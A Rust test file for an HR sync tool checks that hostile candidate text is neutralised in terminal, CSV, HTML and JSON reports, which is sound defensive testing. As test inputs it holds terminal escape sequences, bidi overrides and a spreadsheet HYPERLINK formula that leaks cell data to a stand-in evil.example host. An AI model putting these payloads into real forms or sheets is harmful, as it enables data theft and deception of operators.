//! Applicant text is hostile: whatever a candidate types reaches the operator's terminal and
//! HR's spreadsheet only in a safe form — no escape sequence, no formula — and text with
//! control characters is never sent on to HiBob or Pinpoint.

mod common;

use std::io::Read as _;
use std::process::Stdio;

use chrono::{TimeZone, Utc};
use common::World;
use hirebridge::ledger::{HireStatus, LedgerEntry, LedgerEvent};
use hirebridge::report::{self, Format};
use hirebridge::sim::{Endpoint, Scenario, SimApplication, Visibility};
use hirebridge::untrusted::{TerminalWriter, is_unsafe_for_terminal};
use proptest::prelude::*;

/// Whether a screen of output carries a character a terminal would obey (line breaks are the
/// renderer's own).
fn raw_unsafe(text: &str) -> Option<char> {
    text.chars()
        .find(|c| *c != '\n' && is_unsafe_for_terminal(*c))
}

/// A cell a spreadsheet would evaluate.
fn formula(cell: &str) -> bool {
    matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

fn entry(id: &str, name: &str, email: &str, error: &str) -> LedgerEntry {
    let t = Utc.with_ymd_and_hms(2026, 11, 16, 9, 0, 0).unwrap();
    let mut e = LedgerEntry::new_pending(id, email, name, name, Some(name), t);
    e.status = HireStatus::NeedsAttention;
    e.last_error = Some(error.to_owned());
    e
}

fn rendered(entries: &[LedgerEntry], format: Format) -> String {
    let mut out = Vec::new();
    report::render(&report::rows(entries), format, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn history_text(e: &LedgerEntry, detail: &str) -> String {
    let event = LedgerEvent {
        id: 1,
        application_id: e.application_id.to_string(),
        at: e.first_seen_at,
        pass_id: Some(1),
        trigger: Some("sync".into()),
        step: "hire".into(),
        outcome: "detected".into(),
        detail: detail.to_owned(),
    };
    let mut out = Vec::new();
    {
        let mut screen = TerminalWriter::new(&mut out);
        report::history::render_text(
            &[report::history::HireHistory::new(e, vec![event])],
            &mut screen,
        )
        .unwrap();
    }
    String::from_utf8(out).unwrap()
}

/// Any text, weighted towards what attacks a screen or a sheet.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        any::<char>().prop_map(|c| c.to_string()),
        Just("\u{1b}[2J".to_owned()),
        Just("\u{1b}]0;pwned\u{7}".to_owned()),
        Just("\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\".to_owned()),
        Just("\u{9b}31m".to_owned()),
        Just("\u{202e}".to_owned()),
        Just("\u{2066}".to_owned()),
        Just("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".to_owned()),
        Just("+1+1".to_owned()),
        Just("-2".to_owned()),
        Just("@SUM(A1)".to_owned()),
        Just("\t".to_owned()),
        Just("\r".to_owned()),
        Just("\n".to_owned()),
        Just("Zoë 李 مرحبا".to_owned()),
        "[ -~]{0,40}".prop_map(|s| s),
    ];
    prop::collection::vec(pieces, 0..12).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn the_terminal_never_receives_a_control_or_bidi_character(
        name in hostile(), email in hostile(), error in hostile(), long in "[a-z]{0,2000}",
    ) {
        let e = entry("8864181", &format!("{name}{long}"), &email, &error);
        let table = rendered(std::slice::from_ref(&e), Format::Table);
        prop_assert_eq!(raw_unsafe(&table), None, "{:?}", table);
        let history = history_text(&e, &format!("{name} <{email}>"));
        prop_assert_eq!(raw_unsafe(&history), None, "{:?}", history);
        // The columns still line up: the status sits under its header, counted in the cells
        // a terminal shows (a CJK character takes two, a combining accent none).
        let lines: Vec<&str> = table.lines().collect();
        let column = |line: &str, word: &str| {
            line.find(word)
                .map(|at| unicode_width::UnicodeWidthStr::width(&line[..at]))
        };
        prop_assert_eq!(column(lines[0], "STATUS"), column(lines[1], "needs_attention"), "{:?}", table);
    }

    #[test]
    fn no_csv_cell_is_a_formula_and_every_value_reads_back(
        name in hostile(), email in hostile(), error in hostile(),
    ) {
        let e = entry("8864181", &name, &email, &error);
        let csv = rendered(std::slice::from_ref(&e), Format::Csv);
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        for cell in record.iter() {
            prop_assert!(!formula(cell), "{cell:?}");
        }
        // Nothing lost: a neutralised cell is the value with a leading quote.
        let name_cell = &record[2];
        let expected = format!("{name} {name}").trim().to_owned();
        prop_assert!(name_cell == expected || name_cell == format!("'{expected}"), "{name_cell:?}");
    }

    #[test]
    fn the_html_page_parses_with_the_text_intact_and_no_bidi_override(
        name in hostile(), email in hostile(),
    ) {
        let e = entry("8864181", &name, &email, "x");
        let page = rendered(std::slice::from_ref(&e), Format::Html);
        prop_assert!(!page.chars().any(hirebridge::untrusted::is_bidi_control));
        let document = scraper::Html::parse_document(&page);
        let cell = scraper::Selector::parse("table#hires tbody tr td:nth-child(2)").unwrap();
        let shown: String = document.select(&cell).next().unwrap().text().collect();
        let expected: String = email
            .chars()
            .map(|c| if c != '\n' && is_unsafe_for_terminal(c) { c.escape_unicode().to_string() } else { c.to_string() })
            .collect();
        // An HTML parser turns a carriage return into a line break; everything else is intact.
        prop_assert_eq!(shown.replace('\r', "\n"), expected.replace("\r\n", "\n").replace('\r', "\n"));
    }

    #[test]
    fn every_screen_written_through_the_terminal_writer_is_safe(
        text in hostile(), bytes in prop::collection::vec(any::<u8>(), 0..200), cut in 0usize..400,
    ) {
        // Status, plan and check write whole screens through it, in pieces of any size.
        let mut input = text.into_bytes();
        input.extend_from_slice(&bytes);
        let cut = cut.min(input.len());
        let mut out = Vec::new();
        {
            let mut screen = TerminalWriter::new(&mut out);
            std::io::Write::write_all(&mut screen, &input[..cut]).unwrap();
            std::io::Write::write_all(&mut screen, &input[cut..]).unwrap();
        }
        let shown = String::from_utf8(out).unwrap();
        prop_assert_eq!(raw_unsafe(&shown), None, "{:?}", shown);
    }

    #[test]
    fn json_keeps_the_text_exact(name in hostile()) {
        let e = entry("8864181", "x", &name, "y");
        let json = rendered(std::slice::from_ref(&e), Format::Json);
        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
        prop_assert_eq!(parsed[0]["email"].as_str().unwrap(), name.as_str());
    }
}

// ---- end to end -----------------------------------------------------------------------------

const ESCAPES: &str = "Evil\u{1b}[2J\u{1b}]0;pwned\u{7}";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") +1+1";
const BIDI: &str = "Ali\u{202e}ecilA";

fn hostile_world() -> World {
    World::new(
        Scenario::empty()
            .with_job("1", "Engineer", Visibility::External)
            // A formula for a name: valid text, sent to HiBob as typed, never a live cell.
            .with_application(SimApplication::hired(
                "9001",
                FORMULA,
                "Sheet",
                "formula@example.com",
                "1",
            ))
            // Escape sequences in a name, and in an email: never sent anywhere.
            .with_application(SimApplication::hired(
                "9002",
                ESCAPES,
                "Screen",
                "escapes@example.com",
                "1",
            ))
            .with_application(SimApplication::hired(
                "9003",
                "Red",
                "Mail",
                "x\u{1b}[31mred@example.com",
                "1",
            ))
            // A bidi override in a name: shown escaped on screens and pages.
            .with_application(SimApplication::hired(
                "9004",
                BIDI,
                "Bidi",
                "bidi@example.com",
                "1",
            )),
    )
}

#[test]
fn hostile_names_and_emails_from_pinpoint_end_safe_in_every_output() {
    let world = hostile_world();
    world.sync().expect(3);
    // Control characters are never written to HiBob or Pinpoint; the hire is parked naming the field.
    assert_eq!(world.employees_with_email("escapes@example.com"), 0);
    assert!(world.sim.comments("9002").is_empty());
    let parked = world.entry("9002");
    assert_eq!(parked.status, HireStatus::NeedsAttention);
    assert!(
        parked
            .last_error
            .as_deref()
            .unwrap_or("")
            .contains("first name contains control characters")
    );
    assert_eq!(world.entry("9003").status, HireStatus::NeedsAttention);
    for e in world.sim.employees() {
        assert!(
            !format!("{} {} {} {}", e.first_name, e.surname, e.email, e.body).contains('\u{1b}'),
            "no escape sent to HiBob: {e:?}"
        );
    }
    // Text without control characters is sent as typed.
    assert_eq!(world.employees_with_email("formula@example.com"), 1);
    assert_eq!(world.employees_with_email("bidi@example.com"), 1);

    for args in [
        vec!["report"],
        vec!["history", "9002"],
        vec!["history", "9004"],
        vec!["history", "9003"],
        vec!["status"],
        vec!["plan", "--all"],
    ] {
        let run = world.hirebridge(&args);
        let out = run.all();
        assert_eq!(raw_unsafe(&out), None, "{args:?}: {out:?}");
    }
    let table = world.hirebridge(&["report"]).stdout();
    assert!(
        table.contains("x\\u{1b}[31mred@example.com"),
        "shown escaped: {table}"
    );
    let history = world.hirebridge(&["history", "9002"]).stdout();
    assert!(
        history.contains("Evil\\u{1b}[2J"),
        "shown escaped: {history}"
    );

    let csv = world
        .hirebridge(&["report", "--format", "csv"])
        .expect(0)
        .stdout();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!formula(cell), "{cell:?}");
        }
    }
    assert!(csv.contains("'=HYPERLINK"), "{csv}");

    let html = world
        .hirebridge(&["report", "--format", "html"])
        .expect(0)
        .stdout();
    assert!(
        !html
            .chars()
            .any(|c| hirebridge::untrusted::is_bidi_control(c) || c == '\u{1b}')
    );
    assert!(html.contains("Ali\\u{202e}ecilA"), "bidi shown escaped");

    // JSON is data: exact.
    let row = world.row("9001");
    assert_eq!(row["name"], format!("{FORMULA} Sheet"));
}

#[test]
fn a_closed_pipe_ends_a_report_quietly() {
    // 300 hires: a JSON report of several hundred KiB, far more than a pipe buffers, so the
    // reader surely closes before the writer is done.
    let world = World::new(Scenario::generated(300, 3));
    world.sync();
    let mut child = world
        .command(&["report", "--format", "json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 1];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // The pipe's reading end is dropped here, as `head -1` would.
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    let status = child.wait().unwrap();
    assert_eq!(stderr, "", "no error line");
    use std::os::unix::process::ExitStatusExt as _;
    assert!(
        status.success() || status.signal() == Some(libc_sigpipe()),
        "{status:?}"
    );
    // And through a real shell pipeline, as an operator types it.
    let run = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "'{}' --config '{}' report --format json | head -1 >/dev/null",
            env!("CARGO_BIN_EXE_hirebridge"),
            world.config_path.display()
        ))
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&run.stderr), "");
    assert!(run.status.success());
}

fn libc_sigpipe() -> i32 {
    13
}

#[test]
fn an_unusable_name_is_parked_until_it_is_corrected_in_pinpoint() {
    let world = hostile_world();
    world.sync().expect(3);
    // Corrected in Pinpoint: released by itself and done.
    world.sim.add_application(SimApplication::hired(
        "9002",
        "Eve",
        "Screen",
        "escapes@example.com",
        "1",
    ));
    world.sync();
    assert!(world.is_done("9002"));
    assert_eq!(world.sim.count(Endpoint::CreatePerson), 3);
}
